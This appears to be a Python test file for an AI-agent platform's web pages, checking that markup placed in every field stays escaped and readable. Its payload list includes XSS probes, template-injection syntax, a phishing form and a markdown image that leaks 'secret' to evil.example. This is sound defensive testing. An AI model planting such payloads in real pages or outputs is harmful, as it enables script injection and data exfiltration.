"""WEB04, WEB05, LLM13: text that contains markup stays readable text on each page."""

from collections.abc import AsyncIterator
from pathlib import Path

import httpx2

from bot.core.people import PeopleDirectory, Person
from bot.core.steps import ModelAnswer
from tests.http.page_browser import PageClient
from tests.http.page_case import assert_harmless
from tests.platform_fixture import MANAGERS, MAX, OLIVE, SAM, PlatformFixture, choose

EVIL = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "[Approve](javascript:alert(1))",
    "![](https://evil.example/?q=secret)",
    "<svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7 * 7 }}{% include 'page.html' %}",
    "<https://evil.example|Approve> <!channel> <@U123> ```",
    "</main><form action=https://evil.example><button>Approve</button></form>",
    "\u202eevorppa\u202c \u200bhidden\u2066",
)
ALL_EVIL = "\n".join(EVIL)


def evil_platform(folder: Path) -> PlatformFixture:
    people = [each.model_copy(update={"name": f"{each.name} <b>"[:80], "title": EVIL[1]}) for each in (SAM, OLIVE, MAX)]
    mallory = Person(id="mallory", name=EVIL[0], groups=("managers",))
    directory = PeopleDirectory(people={each.id: each for each in (*people, mallory)})
    script: list[ModelAnswer | Exception] = [
        choose("reply", EVIL[4], message=ALL_EVIL, go_on=True),
        choose("push", ALL_EVIL, tag=ALL_EVIL, commit=EVIL[1]),
        choose("ask_human", ALL_EVIL, question=ALL_EVIL, context=ALL_EVIL, urgency="high", format="multiple_choice",
               choices=[EVIL[0], EVIL[1]]),
        choose(EVIL[0]),
        ModelAnswer(refusal=ALL_EVIL),
        choose("done", message=ALL_EVIL),
    ]  # fmt: skip
    return PlatformFixture(
        folder, *script, directory=directory, agent={"policy": MANAGERS.model_copy(update={"edits": True})}
    )


async def evil_pages(platform: PlatformFixture) -> AsyncIterator[tuple[str, httpx2.Response]]:
    """Every page of a platform where every field holds scripts, in each state of its requests."""
    page_client = PageClient(platform)
    thread = await platform.launch(ALL_EVIL, by="mallory")
    olive = await page_client.sign_in("olive")
    link = await page_client.link("mallory")
    yield "sign-in", await olive.open(link + "?next=" + "/%22%3E%3Cscript%3E")
    for _ in range(3):
        for path in ("/", f"/threads/{thread}", f"/threads/{thread}/prompts/1", f"/threads/{thread}/prompts/2"):
            yield path, await olive.open(path)
        for request in (await platform.app.queries.list_requests()).items:
            yield request.id, await olive.open(f"/requests/{request.id}")
        for request in await platform.pending():
            if request.kind == "approval":
                await platform.decide(request, "reject", reason=ALL_EVIL)
            else:
                await platform.answer(request, request.choices[0])
            await platform.settle()
            break
    await olive.open(f"/threads/{thread}")
    yield "too late", await olive.submit(f"/threads/{thread}/fork", at=EVIL[0])
    yield "not there", await olive.open("/requests/%3Cscript%3Ealert(1)%3E")
    yield "not a link", await olive.open("/sign-in/%3Cscript%3E")


async def test_web04_web05_llm13_whatever_anybody_writes_stays_text(tmp_path: Path) -> None:
    async with evil_platform(tmp_path) as platform:
        seen = 0
        async for name, answer in evil_pages(platform):
            assert_harmless(name, answer.text)
            seen += 1
        assert seen > 15


async def test_web04_what_was_written_is_still_readable(tmp_path: Path) -> None:
    async with evil_platform(tmp_path) as platform:
        olive = await PageClient(platform).sign_in("olive")
        thread = await platform.launch(ALL_EVIL, by="mallory")
        await olive.open(f"/threads/{thread}")
        text = "".join(olive.page.words)
        for evil in EVIL[:-1]:
            assert evil in text
        assert "⟨U+202E⟩evorppa" in text
        assert "contains unusual characters" in text
